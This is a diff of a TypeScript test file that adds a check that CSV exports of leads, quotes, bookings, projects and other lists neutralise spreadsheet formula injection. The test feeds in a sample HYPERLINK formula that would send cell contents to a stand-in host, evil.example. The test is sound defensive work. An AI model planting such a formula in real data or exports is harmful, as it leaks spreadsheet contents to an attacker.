@@ -1,6 +1,7 @@
 import { parse } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
 import { unguardFormula } from '#domain/csv/formula-guard.ts';
+import { bookingRequest, quoteRequest } from '../testing/factories.ts';
 import { createLeadsTest } from '../testing/leads.ts';
 import { insertLeads } from '../testing/many-leads.ts';
 
@@ -71,7 +72,40 @@ describe('a list as a CSV file', () => {
     expect(some.length).toBeGreaterThan(10);
   });
 
-  test.each(['leads', 'quotes', 'bookings', 'users', 'projects'])(
+  test('of every list is neutral to a spreadsheet, and unchanged to who undoes the guard', async () => {
+    const { app, add, get, post, remove } = await createLeadsTest();
+    const text = '=HYPERLINK("http://evil.example?"&A1;"Click")\n\'=1';
+    const line = text.replace('\n', ' ');
+    await add({ firstName: line, message: text });
+    const quote = quoteRequest({ customerName: line, customerCompany: line });
+    for (const [url, payload] of [
+      ['/api/quotes', quote],
+      ['/api/bookings', bookingRequest({ firstName: line, message: text })],
+      ['/api/contact', { name: line, email: 'e@evil.example', message: text }],
+    ] as const)
+      expect((await app.call({ method: 'POST', url, payload })).statusCode, url).toBe(201);
+    for (let count = 0; count < 2; count += 1) await post('/api/projects', { name: line });
+    const [newest] = (await get('/api/projects')).json();
+    await remove(`/api/projects/${newest.id}`);
+
+    const lists = app.app.endpoints
+      .map(({ path }) => path)
+      .filter((path) => path.endsWith('.csv') && !path.includes(':'));
+    const holding: string[] = [];
+    for (const list of lists) {
+      const reply = await get(list);
+      const cells: string[] = parse(reply.body, { bom: true }).flat();
+      const active = cells.filter((cell) => /^\s*[=+@＝＋－＠]/.test(cell));
+      expect([list, active]).toEqual([list, []]);
+      if (cells.some((cell) => [text, line].includes(String(unguardFormula(cell)))))
+        holding.push(list);
+    }
+    expect(holding.sort()).toEqual(
+      ['bin', 'bookings', 'inbox', 'leads', 'projects', 'quotes'].map((list) => `/api/${list}.csv`),
+    );
+  });
+
+  test.each(['leads', 'quotes', 'bookings', 'users', 'projects', 'inbox', 'mail', 'audit'])(
     'of %s has its headings even when nothing matches, and takes the query of the list',
     async (list) => {
       const { get } = await createLeadsTest();
